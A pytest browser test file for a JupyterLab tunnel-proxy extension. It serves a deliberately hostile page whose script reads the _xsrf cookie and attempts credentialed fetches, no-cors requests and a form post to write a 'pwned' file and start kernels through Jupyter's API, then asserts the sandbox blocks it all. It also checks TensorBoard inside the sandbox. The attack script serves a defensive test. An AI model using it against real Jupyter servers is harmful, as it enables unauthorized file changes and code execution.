"""A hostile instance's page, opened through Jupyter's proxy in real Chromium, cannot act on Lab.

JupyterLab (fixture, our server and Lab extensions) + Debian's Chromium via Playwright + the
emulator. "The instance" serves a page (a tornado app this test runs: an emulated instance
shares this machine's loopback, and its tunnel is a real one of the tunnel agent). The page's
script does what a malicious provider would: read ``_xsrf`` from ``document.cookie``, then
``PUT /api/contents/<file>`` and ``POST /api/kernels`` on the local server with every credential
the browser will attach (fetch with credentials, a no-cors request, a form post), and reports
what it got back to its own server, over a relative fetch and a WebSocket. Opened by the
sidebar's **Open** and by navigating to the proxy URL, it must get no cookie and no 2xx; no file
may appear and the kernel count must not change. The report arriving (and the page's own
marker) shows the page was really served and ran, so the test cannot pass vacuously.

TensorBoard through the Lab tab: its UI, scripts and data requests work in the sandbox.
Screenshots go to test-output/browser/.
"""

from __future__ import annotations

import asyncio
import json
import queue
import secrets
import threading

import pytest

from tests.fixtures.browser import needs_chromium, shot

pytestmark = [pytest.mark.slow, needs_chromium]

MARKER = f"hostile-{secrets.token_hex(6)}"
VICTIM = f"pwned-{secrets.token_hex(4)}.txt"

PAGE = """<!doctype html><title>hostile</title><h1 id="marker">@MARKER@</h1><pre id="result"></pre>
<iframe name="sink" style="display:none"></iframe>
<script>
(async () => {
  const r = {how: location.search.slice(1), href_has_proxy: location.pathname.includes('/spheron/')};
  let xsrf = '';
  try { r.cookie = document.cookie; xsrf = (/_xsrf=([^;]+)/.exec(document.cookie) || [])[1] || ''; }
  catch (e) { r.cookie = 'ERR ' + e.name; }
  try { localStorage.setItem('@MARKER@', 'planted'); r.storage = 'in-page'; }
  catch (e) { r.storage = 'ERR ' + e.name; }
  const lab = location.origin + '/';
  const headers = {'Content-Type': 'application/json', 'X-XSRFToken': xsrf};
  async function attempt(name, url, init) {
    try { const x = await fetch(url, init); r[name] = x.type === 'opaque' ? 'opaque' : x.status; }
    catch (e) { r[name] = 'ERR ' + e.name; }
  }
  await attempt('put', lab + 'api/contents/@VICTIM@', {method: 'PUT', credentials: 'include',
    headers, body: JSON.stringify({type: 'file', format: 'text', content: 'pwned'})});
  await attempt('kernel', lab + 'api/kernels', {method: 'POST', credentials: 'include', headers,
    body: '{}'});
  await attempt('kernel_nocors', lab + 'api/kernels?_xsrf=' + xsrf, {method: 'POST',
    mode: 'no-cors', credentials: 'include', body: '{}'});
  await attempt('put_nocors', lab + 'api/contents/@VICTIM@?_xsrf=' + xsrf, {method: 'POST',
    mode: 'no-cors', credentials: 'include', body: 'pwned'});
  await attempt('read', lab + 'api/contents', {credentials: 'include'});
  const form = document.createElement('form');
  form.method = 'POST'; form.action = lab + 'api/kernels'; form.target = 'sink';
  form.innerHTML = '<input name="_xsrf" value="' + xsrf + '">';
  document.body.appendChild(form); form.submit();
  r.ws = await new Promise(done => {
    try {
      const ws = new WebSocket(location.href.replace(/^http/, 'ws').replace(/[^/]*$/, 'ws'));
      ws.onopen = () => ws.send('ping');
      ws.onmessage = m => { done(m.data); ws.close(); };
      ws.onerror = () => done('ERR');
    } catch (e) { done('ERR ' + e.name); }
  });
  document.getElementById('result').textContent = JSON.stringify(r);
  await fetch('report', {method: 'POST', body: JSON.stringify(r)});  // relative: our own server
  document.title = 'reported';
})();
</script>"""


class HostileService:
    """The instance's web server (tornado, own loop in a thread): the page, /report, /ws."""

    def __init__(self) -> None:
        self.reports: queue.Queue = queue.Queue()
        self.port: int | None = None
        self._loop: asyncio.AbstractEventLoop | None = None
        ready = threading.Event()
        self._thread = threading.Thread(target=self._run, args=(ready,), daemon=True)
        self._thread.start()
        ready.wait(30)

    def _run(self, ready: threading.Event) -> None:
        import tornado.httpserver
        import tornado.netutil
        import tornado.web
        import tornado.websocket

        service = self

        class Page(tornado.web.RequestHandler):
            def get(self):
                self.set_header("Content-Type", "text/html; charset=utf-8")
                self.write(PAGE.replace("@MARKER@", MARKER).replace("@VICTIM@", VICTIM))

        class Report(tornado.web.RequestHandler):
            def post(self):
                service.reports.put((json.loads(self.request.body), dict(self.request.headers)))

        class Echo(tornado.websocket.WebSocketHandler):
            def check_origin(self, origin):
                return True

            def on_message(self, message):
                self.write_message(f"echo:{message}")

        self._loop = asyncio.new_event_loop()
        asyncio.set_event_loop(self._loop)
        sockets = tornado.netutil.bind_sockets(0, "127.0.0.1")
        app = tornado.web.Application([(r"/(?:hostile.html)?", Page), (r"/report", Report),
                                       (r"/ws", Echo)])
        server = tornado.httpserver.HTTPServer(app)
        server.add_sockets(sockets)
        self.port = sockets[0].getsockname()[1]
        ready.set()
        self._loop.run_forever()
        server.stop()

    def report(self, timeout: float = 120.0) -> tuple[dict, dict]:
        return self.reports.get(timeout=timeout)

    def stop(self) -> None:
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(10)


@pytest.fixture
def hostile():
    service = HostileService()
    yield service
    service.stop()


def _assert_contained(result: dict, headers: dict, lab) -> None:
    # No _xsrf, no login: the sandbox makes document.cookie throw, or (with the proxy's shim)
    # an empty per-page jar.
    assert result["cookie"].startswith("ERR SecurityError") or result["cookie"] == "", result
    for name in ("put", "kernel", "read"):
        assert not (isinstance(result[name], int) and 200 <= result[name] < 300), (name, result)
    # The page ran with working same-tunnel requests: its WebSocket and its report came back.
    assert result["ws"] == "echo:ping", result
    assert result["href_has_proxy"] is True
    sent = json.dumps(headers)
    assert lab.token not in sent and "_xsrf" not in sent and "username-" not in sent, headers
    assert "Cookie" not in headers and "Referer" not in headers, headers


def test_a_hostile_page_gets_no_cookie_and_no_2xx_opened_either_way(
        jupyterlab, emulator_session, hostile, page):
    try:
        journey(jupyterlab, emulator_session, hostile, page)
    except BaseException:
        shot(page, "hostile-failed")
        print("JupyterLab log (end):\n" + jupyterlab.log()[-4000:])
        raise


def journey(lab, session, hostile, page) -> None:
    page.goto(f"{lab.url}/lab?token={lab.token}")
    page.wait_for_selector("#jp-main-statusbar")
    cookies = {c["name"] for c in page.context.cookies()}
    assert "_xsrf" in cookies and any(n.startswith("username-") for n in cookies), cookies
    kernels_before = len(lab.kernels())

    view = session.launch(session.plan_launch(gpu="rtx-4090", lease="1h", name="hostile-box"))
    tunnel = session.forward(view.id, hostile.port)

    # -- 1. the sidebar's Open, in a Lab tab ----------------------------------------------------
    page.locator(".jp-SideBar.jp-mod-left .lm-TabBar-tab[data-id='spheron-sidebar']").click()
    row = page.locator(f".spheron-sidebar-tunnel[data-tunnel-id='{tunnel.id}']")
    row.locator(".spheron-sidebar-open").click()
    frame_el = page.locator(f"#spheron-tunnel-{tunnel.id} iframe")
    frame_el.wait_for()
    sandbox = set((frame_el.get_attribute("sandbox") or "").split())
    assert "allow-scripts" in sandbox and "allow-same-origin" not in sandbox, sandbox
    frame = page.frame_locator(f"#spheron-tunnel-{tunnel.id} iframe")
    frame.locator("#marker", has_text=MARKER).wait_for()
    result, headers = hostile.report()
    assert result["how"] == "", result  # the service's root, as Open loads it
    _assert_contained(result, headers, lab)
    shown = json.loads(frame.locator("#result").inner_text())
    assert shown == result
    shot(page, "hostile-1-lab-tab")

    # -- 2. a browser tab on the proxy URL, with Lab's cookies in the browser ------------------
    direct = page.context.new_page()
    direct.goto(f"{lab.url}/spheron/proxy/{tunnel.id}/hostile.html?direct")
    direct.locator("#marker", has_text=MARKER).wait_for()
    assert "/spheron/tunnel/" in direct.url and lab.token not in direct.url
    result, headers = hostile.report()
    assert result["how"] == "direct", result
    _assert_contained(result, headers, lab)
    shot(direct, "hostile-2-direct-tab")
    direct.close()

    # -- nothing happened on the local server ------------------------------------------------
    assert not (lab.root / VICTIM).exists()
    assert len(lab.kernels()) == kernels_before
    contents = lab.api("GET", "/api/contents")
    assert VICTIM not in json.dumps(contents)
    # Lab itself is untouched: its storage never saw the page's key, its API still works.
    assert page.evaluate(f"() => localStorage.getItem('{MARKER}')") is None
    assert page.evaluate("async () => (await fetch('/api/status')).status") == 200


def test_tensorboard_works_in_the_sandboxed_lab_tab_and_jupyter_says_where_it_opens(
        jupyterlab, emulator_session, page):
    session = emulator_session
    view = session.launch(session.plan_launch(gpu="rtx-4090", lease="1h", name="board-box"))
    script = ("import time\n"
              "from tensorboard.compat.proto import event_pb2, summary_pb2\n"
              "from tensorboard.summary.writer.event_file_writer import EventFileWriter\n"
              "w = EventFileWriter('runs/train')\n"
              "for step in range(5):\n"
              "    v = summary_pb2.Summary.Value(tag='sandboxed_loss', simple_value=1.0 / (step + 1))\n"
              "    w.add_event(event_pb2.Event(wall_time=time.time(), step=step,\n"
              "                                summary=summary_pb2.Summary(value=[v])))\n"
              "w.close()\n")
    output: list[str] = []
    status = session.exec(view.id, f"python3 - <<'PY'\n{script}PY",
                          lambda stream, text: output.append(text))
    assert status == 0, output
    board = session.tensorboard(view.id, logdir="runs")
    tunnel = next(t for t in session.tunnels() if t.kind == "tensorboard")
    assert tunnel.local_port == board.local_port

    console: list[str] = []
    page.on("console", lambda m: console.append(f"console {m.type}: {m.text}"))
    page.on("requestfailed", lambda r: console.append(f"failed {r.method} {r.url} {r.failure}"))
    page.on("response", lambda r: console.append(f"response {r.status} {r.request.method} {r.url}")
            if "/spheron/" in r.url else None)
    page.goto(f"{jupyterlab.url}/lab?token={jupyterlab.token}")
    page.wait_for_selector("#jp-main-statusbar")
    page.locator(".jp-SideBar.jp-mod-left .lm-TabBar-tab[data-id='spheron-sidebar']").click()
    row = page.locator(f".spheron-sidebar-tunnel[data-tunnel-id='{tunnel.id}']")
    row.locator(".spheron-sidebar-open").click()
    frame = page.frame_locator(f"#spheron-tunnel-{tunnel.id} iframe")
    try:
        # The tag appears only once TensorBoard's own scripts ran and fetched its data
        # (relative requests from the opaque origin, through the proxy).
        frame.locator("text=sandboxed_loss").first.wait_for(timeout=120_000)
    except BaseException:
        print("\n".join(console[-80:]))
        shot(page, "tensorboard-failed")
        print("JupyterLab log (end):\n" + jupyterlab.log()[-4000:])
        raise
    # Its scalars came (a POST from the sandbox) and its chart drew them: the data table under
    # the chart shows the last step's value, 1 / (4 + 1).
    page.wait_for_function("() => true")  # let queued response events reach `console`
    frame.locator(".tb-data-table, tb-data-table, [class*='data-table']").filter(
        has_text="0.2").first.wait_for(timeout=120_000)
    assert any(line.startswith("response 200 POST") and "timeseries/timeSeries" in line
               for line in console), console[-20:]
    shot(page, "tensorboard-in-lab-tab")

    # A remote JupyterLab cannot run in the sandbox's opaque origin (it reads its _xsrf cookie
    # from document.cookie, which throws there): its Open explains that instead.
    lab_link = session.jupyter(view.id)
    jtunnel = next(t for t in session.tunnels() if t.kind == "jupyter")
    page.locator(f".spheron-sidebar-tunnel[data-tunnel-id='{jtunnel.id}'] .spheron-sidebar-open"
                 ).click()
    notice = page.locator(f"#spheron-tunnel-{jtunnel.id} .spheron-tunnel-notice")
    notice.wait_for()
    text = notice.inner_text()
    assert "opens in its own browser tab" in text and "%spheron jupyter board-box" in text, text
    assert f"127.0.0.1:{lab_link.local_port}" in text and lab_link.token not in text
    assert page.locator(f"#spheron-tunnel-{jtunnel.id} iframe").count() == 0
    shot(page, "remote-jupyter-notice")

